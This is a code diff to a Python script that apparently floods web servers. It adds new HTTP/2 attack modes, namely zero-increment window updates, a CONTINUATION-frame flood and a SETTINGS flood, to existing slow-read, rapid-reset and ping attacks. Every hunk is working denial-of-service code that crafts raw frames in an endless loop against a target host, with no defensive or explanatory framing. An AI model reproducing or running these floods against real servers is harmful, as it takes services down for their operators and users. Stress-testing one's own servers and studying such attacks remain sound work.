@@ -117,9 +117,13 @@ def slow_reads():
     held(f"GET /4m.bin HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), b"", 4096)
 
 
-def http2(flood):
+def request_head():
+    return bytes([0x82, 0x87, 0x84, 0x41, len(host)]) + host.encode()
+
+
+def http2(flood, beginning=b""):
     with shake(connect(), ("h2",)) as connection:
-        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + beginning)
         stream = 1
         while goes_on():
             part = b""
@@ -130,8 +134,21 @@ def http2(flood):
 
 
 def resets():
-    head = bytes([0x82, 0x87, 0x84, 0x41, len(host)]) + host.encode()
-    http2(lambda stream: frame(1, 5, stream, head) + frame(3, 0, stream, bytes([0, 0, 0, 8])))
+    http2(lambda stream: frame(1, 5, stream, request_head()) + frame(3, 0, stream, bytes([0, 0, 0, 8])))
+
+
+def provoked():
+    # An increment of nothing is an error of the stream, which it is for the server to reset.
+    http2(lambda stream: frame(1, 5, stream, request_head()) + frame(8, 0, stream, bytes(4)))
+
+
+def continuations():
+    # A field of the table again and again: a byte to send, and a field to keep.
+    http2(lambda stream: frame(9, 0, 1, bytes([0x90]) * 16), frame(1, 0, 1, request_head()))
+
+
+def settings():
+    http2(lambda stream: frame(4, 0, 0, struct.pack(">HI", 4, 65535)))
 
 
 def pings():
